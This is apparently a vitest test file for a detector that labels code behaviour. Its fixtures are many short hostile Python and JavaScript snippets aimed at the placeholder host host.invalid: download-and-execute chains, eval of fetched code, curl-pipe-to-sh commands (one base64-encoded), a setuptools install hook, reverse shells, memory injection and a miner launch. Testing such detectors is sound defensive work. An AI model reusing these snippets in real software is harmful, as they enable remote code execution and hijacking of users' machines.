import { describe, expect, it } from 'vitest';
import { deedsOf } from '../../../test/builders/deeds.ts';

const U = "'https://host.invalid/c'";

describe('formats/behaviour: what is run', () => {
  it.each([
    [
      'python',
      'runs-file network program import',
      `import urllib.request, os\nurllib.request.urlretrieve(${U}, '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nos.system('/tmp/x')`,
    ],
    [
      'python',
      'runs-file network program call',
      `import requests, subprocess, tempfile, os\ndef go():\n  p = os.path.join(tempfile.gettempdir(), 'u.exe')\n  with open(p, 'wb') as f:\n    f.write(requests.get(${U}).content)\n  subprocess.Popen([p])`,
    ],
    [
      'python',
      'runs-file network program call',
      `import requests, os\nfrom pathlib import Path\ndef go():\n  p = Path('/tmp') / 'u'\n  p.write_bytes(requests.get(${U}).content)\n  os.startfile(p)`,
    ],
    [
      'python',
      'runs-file network library call',
      `import requests, ctypes\ndef go():\n  open('/tmp/a.so', 'wb').write(requests.get(${U}).content)\n  ctypes.CDLL('/tmp/a.so')`,
    ],
    [
      'python',
      'runs-file decoder program import',
      `import base64, subprocess\nopen('/tmp/a', 'wb').write(base64.b64decode('IyEvYmluL3NoCmVjaG8='))\nsubprocess.run(['sh', '/tmp/a'])`,
    ],
    [
      'javascript',
      'runs-file network program call',
      `const https = require('https'), fs = require('fs'), cp = require('child_process'); function go() { const f = fs.createWriteStream('/tmp/x'); https.get(${U}, (res) => { res.pipe(f); f.on('finish', () => cp.spawn('/tmp/x')) }) }`,
    ],
    [
      'javascript',
      'runs-file network program import',
      `const fs = require('fs'); fetch(${U}).then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/tmp/x', Buffer.from(b)); require('child_process').execFileSync('/tmp/x') })`,
    ],
    ['javascript', 'runs-fetched import', `fetch(${U}).then((r) => r.text()).then((t) => eval(t))`],
    [
      'javascript',
      'runs-fetched import',
      `require('https').get(${U}, (res) => { let b = ''; res.on('data', (c) => { b += c }); res.on('end', () => { new Function(b)() }) })`,
    ],
    [
      'javascript',
      'runs-fetched import',
      `require('https').get(${U}, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => eval(Buffer.concat(chunks).toString())) })`,
    ],
    [
      'javascript',
      'runs-fetched import',
      `(async () => { const { data } = await require('axios').get(${U}); eval(data.code) })()`,
    ],
    [
      'javascript',
      'runs-fetched import',
      `function get(u, cb) { require('https').get(u, (res) => { res.on('data', cb) }) } get(${U}, (d) => eval(d.toString()))`,
    ],
    [
      'javascript',
      'runs-fetched call',
      `const go = () => new Promise((resolve) => require('https').get(${U}, (r) => r.on('data', (d) => resolve(d)))); async function run() { const c = await go(); require('vm').runInThisContext(c) }`,
    ],
    [
      'javascript',
      'runs-fetched import',
      `require('axios').get(${U}).then(({ data }) => { require('child_process').exec(data.cmd) })`,
    ],
    [
      'javascript',
      'hostile-command import',
      `new (require('worker_threads').Worker)("require('child_process').exec('curl https://host.invalid | sh')", { eval: true })`,
    ],
    [
      'javascript',
      'hostile-command import',
      `import('data:text/javascript;base64,' + 'aW1wb3J0KCdjaGlsZF9wcm9jZXNzJykudGhlbihjPT5jLmV4ZWMoJ2N1cmwgaHR0cHM6Ly9ob3N0LmludmFsaWQgfCBzaCcpKQ==')`,
    ],
    [
      'javascript',
      'hostile-command import',
      `require('child_process').spawn('sh', ['-c', 'curl -s https://host.invalid/i | bash'])`,
    ],
    [
      'javascript',
      'hostile-command import',
      `require('child_process').execFile(process.execPath, ['-e', "require('child_process').execSync('wget -qO- host.invalid | sh')"])`,
    ],
    [
      'javascript',
      'hostile-command import',
      `['child_process'].forEach((m) => require(m).exec('curl https://host.invalid | sh'))`,
    ],
    [
      'python',
      'hostile-command import',
      `import subprocess, sys\nsubprocess.run([sys.executable, '-c', "import os; os.system('curl https://host.invalid | sh')"])`,
    ],
    [
      'python',
      'hostile-command import',
      `def run(c):\n  import os\n  os.system(c)\nrun('curl https://host.invalid | sh')`,
    ],
    [
      'python',
      'hostile-command import',
      `import os\n(lambda f: f('curl https://host.invalid | sh'))(os.system)`,
    ],
    [
      'python',
      'hostile-command import',
      `from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass P(install):\n  def run(self):\n    os.system('curl https://host.invalid | sh')\nsetup(cmdclass={'install': P})`,
    ],
    [
      'python',
      'hostile-command import',
      `from setuptools import setup\nfrom setuptools.command.build_py import build_py\nimport os\nfrom helpers import commands\nclass P(build_py):\n  def run(self):\n    os.system('curl https://host.invalid | sh')\nsetup(cmdclass=commands())`,
    ],
    [
      'python',
      'hostile-command import',
      `import atexit, os\natexit.register(os.system, 'curl https://host.invalid | sh')`,
    ],
    [
      'python',
      'opens-shell import',
      `import socket, subprocess\ns = socket.socket()\ns.connect(('host.invalid', 1))\nsubprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s)`,
    ],
    [
      'javascript',
      'opens-shell import',
      `const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(1, 'host.invalid', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })`,
    ],
    [
      'python',
      'injects call',
      `import ctypes\ndef go(b):\n  ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)`,
    ],
    [
      'python',
      'mines import',
      `import subprocess\nsubprocess.Popen(['/tmp/m', '-o', 'stratum+tcp://pool.host.invalid:3333'])`,
    ],
    [
      'python',
      'installs import',
      `import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'other'])`,
    ],
    [
      'javascript',
      'publishes import',
      `require('child_process').execSync('npm publish --access public')`,
    ],
  ] as const)('%s %s: %j', async (language, wanted, text) => {
    expect(await deedsOf(language, text)).toContain(wanted);
  });
});
